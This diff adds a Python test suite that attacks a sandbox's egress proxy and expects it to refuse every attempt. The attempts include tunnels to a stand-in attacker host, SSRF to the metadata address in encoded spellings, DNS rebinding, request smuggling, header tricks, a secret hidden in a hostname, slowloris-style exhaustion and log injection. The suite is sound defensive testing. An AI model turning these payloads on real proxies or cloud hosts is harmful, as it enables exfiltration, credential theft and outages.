@@ -1,0 +1,451 @@
+"""Exfiltration through the gateway, by tricks: what it refuses, and where the words of client and host part ways."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import re
+import socket
+import ssl
+import time
+
+from tests.attacks.inside.network import METADATA, OTHER, PRIVATE, SERVER
+from tests.attacks.inside.record import EXFILTRATION, EXHAUSTION, TAMPERING, attack, held, won
+
+BY_NAME = "the gateway's rules: only what the profile lists, by name and port"
+BY_ADDRESS = "the gateway looks at every address that a name leads to, each time it connects"
+ONE_SPELLING = "the gateway takes names in one spelling, and no address in any"
+SAME_WORDS = "the gateway writes each request anew, by its own reading of it"
+PATIENCE = 4.0
+
+
+def _gateway() -> socket.socket:
+    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
+    return socket.create_connection((host, int(port)), timeout=PATIENCE)
+
+
+def _read(sock: socket.socket) -> bytes:
+    data = b""
+    try:
+        while piece := sock.recv(65536):
+            data += piece
+            if b"served by" in data and len(data) > 4000:
+                break
+    except OSError:
+        pass
+    return data
+
+
+def ask(request: bytes) -> bytes:
+    """Send a request, and read what comes until the end."""
+    with _gateway() as sock:
+        sock.sendall(request)
+        return _read(sock)
+
+
+def _first_line(data: bytes) -> str:
+    return data.partition(b"\r\n")[0].decode("latin-1") or "closed without a word"
+
+
+def hello(name: str | None) -> bytes:
+    """What TLS begins with."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    out = ssl.MemoryBIO()
+    side = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        side.do_handshake()
+    return out.read()
+
+
+def tunnel(authority: str, first: bytes | None = None) -> str:
+    """Ask for a tunnel and speak through it; won if anybody is there."""
+    with _gateway() as sock:
+        sock.sendall(b"CONNECT %b HTTP/1.1\r\nHost: %b\r\n\r\n" % ((authority.encode("latin-1"),) * 2))
+        head = b""
+        while b"\r\n\r\n" not in head and (piece := sock.recv(4096)):
+            head += piece
+        if b" 200 " not in head.partition(b"\r\n")[0]:
+            return held(_first_line(head))
+        name = authority.rpartition("@")[2].rpartition(":")[0].strip("[]").rstrip(".").lower()
+        sock.sendall(first if first is not None else hello(name if re.fullmatch("[a-z0-9.-]+", name) else None))
+        answer = _read(sock)
+    return won(f"{authority}: {_served(answer)}") if b"served by" in answer else held("the tunnel was closed")
+
+
+def _served(answer: bytes) -> str:
+    found = re.search(rb"served by ([^\n]*)", answer)
+    return found[1].decode("latin-1") if found else ""
+
+
+def any_tunnel(*authorities: str) -> str:
+    """The first that wins; else what was said to all of them."""
+    said = [tunnel(authority) for authority in authorities]
+    return next((one for one in said if not one.startswith("held")), held("; ".join(one[6:] for one in said)))
+
+
+# -- who may be asked for -------------------------------------------------------------------------------------------
+
+
+@attack(EXFILTRATION, BY_NAME, "403 evil.example.net:443 is not allowed", cage="allow")
+def a_host_that_is_not_listed() -> str:
+    """ask the gateway for a host that the profile does not list"""
+    return tunnel("evil.example.net:443")
+
+
+@attack(EXFILTRATION, BY_NAME, "403 .*not allowed with port 8443", cage="allow")
+def another_port_of_an_allowed_host() -> str:
+    """an allowed host, on another port"""
+    return any_tunnel("api.example.com:8443", "api.example.com:22")
+
+
+@attack(EXFILTRATION, BY_NAME, "403 .*not allowed; .*403", cage="allow", control="the names exist for nobody else")
+def names_that_look_alike() -> str:
+    """hosts whose names begin or end as allowed ones do"""
+    return any_tunnel(
+        "api.example.com.evil.example.net:443", "xmodels.example.org:443", "models.example.org:443",
+        "a.api.example.com:443", "api-example.com:443",
+    )  # fmt: skip
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403", cage="allow")
+def a_host_behind_a_user() -> str:
+    """a denied host behind an allowed name as its user (allowed@denied)"""
+    return any_tunnel("api.example.com:443@evil.example.net:443", "api.example.com@evil.example.net:443")
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "40[03]", cage="allow")
+def a_name_with_a_hidden_end() -> str:
+    """a name that ends early for one reader and late for another (NUL, and space)"""
+    return any_tunnel("evil.example.net\0:443", "evil.example.net\0.models.example.org:443")
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403 the host ends with a dot", cage="allow")
+def a_name_with_a_dot_at_its_end() -> str:
+    """a denied and an allowed host in their absolute form, with a dot at the end"""
+    return any_tunnel("evil.example.net.:443", "api.example.com.:443")
+
+
+@attack(EXFILTRATION, f"{BY_NAME}: letters' case makes no difference", "403 evil.example.net:443 is not", cage="allow")
+def a_name_in_other_letters() -> str:
+    """a denied host in capitals"""
+    return tunnel("EVIL.Example.NET:443")
+
+
+@attack(EXFILTRATION, "destinations are names: an address says nothing of who answers there", "403 .*is an address",
+        cage="allow")  # fmt: skip
+def an_allowed_hosts_address() -> str:
+    """the address of an allowed host, and of a denied one"""
+    return any_tunnel(f"{SERVER}:443", f"{OTHER}:443")
+
+
+# -- metadata and private addresses ---------------------------------------------------------------------------------
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403 .*is an address", cage="allow")
+def metadata_by_address() -> str:
+    """the metadata service's address through the gateway"""
+    return tunnel(f"{METADATA}:80", b"GET / HTTP/1.1\r\n\r\n")
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "an address in a spelling of its own.*; .*403.*; .*403.*; .*403", cage="allow")
+def metadata_in_other_spellings() -> str:
+    """that address as one number, in hex, in octal, and with parts left out"""
+    return any_tunnel(
+        "2852039166:80", "0xa9fea9fe:80", "0251.0376.0251.0376:80", "169.254.43518:80", "0xa9.0xfe.43518:80"
+    )
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403", cage="allow")
+def metadata_in_ipv6() -> str:
+    """that address inside an IPv6 address"""
+    return any_tunnel(f"[::ffff:{METADATA}]:80", "[::ffff:a9fe:a9fe]:80")
+
+
+@attack(EXFILTRATION, BY_ADDRESS, "403 .*leads to 169.254.169.254, which is a reserved address", cage="allow")
+def a_name_that_leads_to_metadata() -> str:
+    """an allowed name whose owner points it at the metadata service (rebinding)"""
+    return tunnel("metadata.example.com:443")
+
+
+@attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a private address", cage="allow")
+def a_name_that_leads_to_private_addresses() -> str:
+    """an allowed name that leads into the private network"""
+    return tunnel("private.example.com:443")
+
+
+@attack(EXFILTRATION, BY_ADDRESS, "403 .*leads to 127.0.0.1, which is a reserved address", cage="allow",
+        control="nothing listens on the ports that the world gives to allowed names there")  # fmt: skip
+def a_name_that_leads_to_the_gateway_itself() -> str:
+    """an allowed name that leads to the gateway's own loopback"""
+    return tunnel("loopback.example.com:443")
+
+
+@attack(EXFILTRATION, BY_ADDRESS, "403 .*which is a (reserved|private) address", cage="allow")
+def a_name_that_leads_to_the_host() -> str:
+    """an allowed name that leads to the host's own services"""
+    return tunnel(f"host.example.com:{TCP_OF_HOST}", b"x")
+
+
+TCP_OF_HOST = 5998
+
+
+@attack(EXFILTRATION, BY_ADDRESS, "40[03]|502 ", cage="allow", control="without IPv6 there is nobody to answer")
+def a_name_that_leads_to_a_mapped_address() -> str:
+    """an allowed name whose IPv6 address holds the metadata service's"""
+    return tunnel("mapped.example.com:443")
+
+
+# -- the gateway as somebody's way in -------------------------------------------------------------------------------
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403.*; .*403.*; .*403", cage="allow")
+def the_gateway_through_itself() -> str:
+    """ask the gateway for itself, to go round what it looks at first"""
+    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
+    return any_tunnel(f"127.0.0.1:{port}", f"localhost:{port}", f"{host}:{port}") if not os.environ.get("WEAK") else (
+        tunnel(f"127.0.0.1:{port}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
+    )  # fmt: skip
+
+
+@attack(EXFILTRATION, ONE_SPELLING, "403.*is an address", cage="allow")
+def another_gateway_through_this_one() -> str:
+    """ask the gateway for another sandbox's"""
+    address = os.environ["NEIGHBOUR_GATEWAY"].split()[0]
+    return tunnel(f"{address}:{os.environ['NEIGHBOUR_PORT']}", b"GET http://evil.example.net/ HTTP/1.1\r\n\r\n")
+
+
+@attack(EXFILTRATION, "a proxy's client names the whole destination; nothing else is answered", "HTTP/1.1 40[03]",
+        cage="allow")  # fmt: skip
+def a_request_that_names_no_host() -> str:
+    """a request without a destination, which a careless proxy sends where its Host field says"""
+    answer = ask(b"GET / HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n")
+    return won(_served(answer)) if b"served by" in answer else held(_first_line(answer))
+
+
+@attack(EXFILTRATION, "the gateway speaks http:// and CONNECT, and nothing else", "HTTP/1.1 40[03]", cage="allow",
+        control="no proxy in the weak sandbox opens files")  # fmt: skip
+def other_schemes() -> str:
+    """have the gateway read its own files, or speak other protocols (file:, ftp:, gopher:)"""
+    said = [ask(f"GET {url} HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n".encode()) for url in (
+        "file:///etc/sandboxrun/rules.json", "ftp://api.example.com/", "gopher://api.example.com:80/_x",
+        "https://evil.example.net/",
+    )]  # fmt: skip
+    served = [one for one in said if b" 200 " in one.partition(b"\r\n")[0]]
+    return won(served) if served else held("; ".join(map(_first_line, said)))
+
+
+# -- where readings part ways ---------------------------------------------------------------------------------------
+
+
+@attack(EXFILTRATION, "TLS through a tunnel must name the tunnel's host", "the tunnel was closed", cage="allow")
+def tls_for_another_host() -> str:
+    """a tunnel to an allowed host, and in it TLS for another behind the same address"""
+    return tunnel("api.example.com:443", hello("evil.example.net"))
+
+
+@attack(EXFILTRATION, "TLS through a tunnel must name the tunnel's host", "the tunnel was closed", cage="allow")
+def tls_for_nobody() -> str:
+    """TLS that names no host"""
+    return tunnel("api.example.com:443", hello(None))
+
+
+@attack(EXFILTRATION, "port 443 carries TLS only", "the tunnel was closed", cage="allow")
+def no_tls_on_443() -> str:
+    """another protocol in a tunnel to port 443"""
+    return tunnel("api.example.com:443", b"SSH-2.0-agent\r\n")
+
+
+def _plain(request: bytes, mark: bytes) -> str:
+    """Won if the mark gets to the host in the words of the request."""
+    answer = ask(request)
+    reached = answer.partition(b"served by")[2]
+    return won(reached[:200]) if mark in reached else held(_first_line(answer))
+
+
+@attack(EXFILTRATION, "the Host field must be the target's", "HTTP/1.1 403", cage="allow")
+def another_host_field() -> str:
+    """an allowed target, and a Host field that names another site of the same server"""
+    request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n"
+    return _plain(request, b"evil.example.net")
+
+
+@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 400", cage="allow")
+def two_host_fields() -> str:
+    """two Host fields, of which one reader takes the first and another the last"""
+    request = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\n\r\n"
+    return _plain(request, b"evil.example.net")
+
+
+@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 400", cage="allow")
+def two_lengths() -> str:
+    """a second request hidden in the first one's body (Content-Length and Transfer-Encoding)"""
+    hidden = b"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example.net\r\n\r\n"
+    head = b"POST http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n"
+    return _plain(head + b"Content-Length: %d\r\n\r\n%s" % (len(hidden), hidden), b"evil.example.net")
+
+
+@attack(EXFILTRATION, SAME_WORDS, "HTTP/1.1 (400|505)|closed", cage="allow")
+def an_old_protocol() -> str:
+    """HTTP/0.9, which has no fields to look at"""
+    return _plain(b"GET http://evil.example.net/\r\n\r\n", b"evil.example.net")
+
+
+@attack(EXFILTRATION, SAME_WORDS, "never as it was", cage="allow")
+def folded_fields() -> str:
+    """a field that goes on in the next line, and lines that end in a bare LF"""
+    request = (
+        b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nX: a\r\n Host: evil.example.net\r\n"
+        b"Connection: close\r\n\r\n"
+    )
+    answer = ask(request)
+    folded = b"\r\n Host: evil" in answer.partition(b"served by")[2]
+    bare = b"GET http://api.example.com/ HTTP/1.1\nHost: api.example.com\nX: a\rHost: evil.example.net\n"
+    other = ask(bare + b"Connection: close\n\n")
+    returned = b"\rHost: evil" in other.partition(b"served by")[2]
+    return won("as it was") if folded or returned else held("refused, or written anew: never as it was")
+
+
+@attack(EXFILTRATION, "every request on a connection is judged by itself", "HTTP/1.1 403", cage="allow")
+def a_second_request_behind_the_first() -> str:
+    """a denied request right behind an allowed one, on the same connection"""
+    first = b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n\r\n"
+    second = b"GET http://evil.example.net/ HTTP/1.1\r\nHost: evil.example.net\r\nConnection: close\r\n\r\n"
+    with _gateway() as sock:
+        sock.sendall(first + second)
+        answer = _read(sock)
+    if b"GET http://evil" in answer or answer.count(b"served by") > 1:
+        return won("it went on")
+    return held(re.sub(rb".*(HTTP/1.1 403[^\r]*).*", rb"\1", answer, flags=re.S).decode("latin-1"))
+
+
+@attack(EXFILTRATION, f"{BY_NAME}; what is refused is never resolved", "403.*; .*403", cage="allow")
+def a_secret_in_a_name() -> str:
+    """write it into the name of a denied host, so that whoever resolves it gets it"""
+    return any_tunnel("secret-five.evil.example.net:443", "evil.example.net:443")
+
+
+# -- wearing it out -------------------------------------------------------------------------------------------------
+
+
+def _still_serves() -> str:
+    answer = ask(b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n")
+    return held("it still serves") if b"served by" in answer else won("it serves nobody any more")
+
+
+AFTER = "that the attack was real is seen in the gateway's records, and that it failed by what it serves afterwards"
+
+
+@attack(EXHAUSTION, "the gateway takes a bounded number at once, the rest wait", "it still serves", cage="allow",
+        control=AFTER)  # fmt: skip
+def countless_connections() -> str:
+    """open as many connections to the gateway as it takes to use it up"""
+    kept = []
+    for _ in range(300):
+        try:
+            sock = _gateway()
+        except OSError:
+            break
+        kept.append(sock)
+    for sock in kept:
+        sock.close()
+    return _still_serves()
+
+
+@attack(EXHAUSTION, "the gateway waits ten seconds for a request's head, whatever comes meanwhile", "it still serves",
+        cage="allow", control=AFTER)  # fmt: skip
+def a_request_that_never_ends() -> str:
+    """send requests so slowly that they never end"""
+    kept = [_gateway() for _ in range(30)]
+    for sock in kept:
+        sock.sendall(b"GET http://api.example.com/ HT")
+    said = _still_serves()
+    until = time.monotonic() + 14
+    closed = 0
+    while time.monotonic() < until and closed < len(kept):
+        closed = 0
+        for sock in kept:
+            sock.settimeout(0.05)
+            try:
+                sock.sendall(b"X")
+                closed += sock.recv(1) in (b"", b"H")
+            except TimeoutError:
+                continue
+            except OSError:
+                closed += 1
+        time.sleep(0.5)
+    return said if closed == len(kept) else won(f"{len(kept) - closed} are still waited for")
+
+
+@attack(EXHAUSTION, "a request's head is bounded", "HTTP/1.1 431|closed", cage="allow", control=AFTER)
+def a_head_without_end() -> str:
+    """a request whose fields fill the gateway's memory"""
+    with _gateway() as sock:
+        sock.sendall(b"GET http://api.example.com/ HTTP/1.1\r\nHost: api.example.com\r\n")
+        try:
+            for number in range(2000):
+                sock.sendall(b"X-%d: %b\r\n" % (number, b"x" * 8000))
+        except OSError:
+            pass
+        answer = _read(sock)
+    return held(_first_line(answer)) if b"served by" not in answer else won("16 MB of fields")
+
+
+@attack(TAMPERING, "records are JSON, one a line, with every character escaped", "403|400", cage="allow", control=AFTER)
+def forge_the_gateways_records() -> str:
+    """ask for hosts whose names would end the gateway's record and begin another"""
+    mark = '"}\\n{"event":"request","verdict":"allowed","host":"forged.example.net'
+    said = [tunnel(f"{mark}:443"), held(_first_line(ask(f"GET http://{mark}/ HTTP/1.1\r\nHost: x\r\n\r\n".encode())))]
+    return next((one for one in said if one.startswith("won")), said[0])
+
+
+@attack(TAMPERING, "records have a budget: what came first stays, and when it is used up nothing more is let out",
+        "every one refused", cage="allow", control=AFTER)  # fmt: skip
+def flood_the_gateways_records() -> str:
+    """so many refused requests that the records of earlier ones are lost"""
+    refused = 0
+    for number in range(300):
+        refused += tunnel(f"flood-{number}.{'x' * 60}.{'y' * 60}.example.net:443").startswith("held")
+    return held("every one refused, and recorded") if refused == 300 else won(f"{300 - refused} went through")
+
+
+# -- egress: open ---------------------------------------------------------------------------------------------------
+
+
+@attack(EXFILTRATION, "open means public: reserved addresses are never let through", "403.*reserved.*; .*403",
+        cage="open")  # fmt: skip
+def open_metadata() -> str:
+    """with egress open: the metadata service, by address and by name"""
+    return any_tunnel(f"{METADATA}:80", "metadata.example.com:80", "2852039166:80")
+
+
+@attack(EXFILTRATION, "open means public: private addresses need private_networks", "403.*private.*; .*403.*private",
+        cage="open")  # fmt: skip
+def open_private() -> str:
+    """with egress open: the private network, by address and by name"""
+    return any_tunnel(f"{PRIVATE}:80", "private.example.com:80")
+
+
+@attack(EXFILTRATION, "the gateway refuses the addresses of its machine and of all that is near", "403.*; .*403",
+        cage="open")  # fmt: skip
+def open_host() -> str:
+    """with egress open: the host's own services, by each of its addresses and by name"""
+    hosts = os.environ["HOST_ADDRESSES"].split()
+    return any_tunnel(*(f"{address}:{TCP_OF_HOST}" for address in hosts), f"host.example.com:{TCP_OF_HOST}")
+
+
+@attack(EXFILTRATION, "the gateway refuses private addresses, and where it stands itself", "403.*; .*403", cage="open")
+def open_neighbours() -> str:
+    """with egress open: other sandboxes and their gateways, and this gateway itself"""
+    gateways = os.environ["NEIGHBOUR_GATEWAY"].split()
+    port = os.environ["NEIGHBOUR_PORT"]
+    return any_tunnel(f"{os.environ['NEIGHBOUR']}:8080", *(f"{one}:{port}" for one in gateways), "127.0.0.1:3128")
+
+
+@attack(EXFILTRATION, "open opens the gateway, not the network", "ENETUNREACH|EHOSTUNREACH|no answer", cage="open")
+def open_straight() -> str:
+    """with egress open: straight to a public address, past the gateway and its records"""
+    from tests.attacks.inside.network import _tcp
+
+    return _tcp((OTHER, 443), (SERVER, 80))
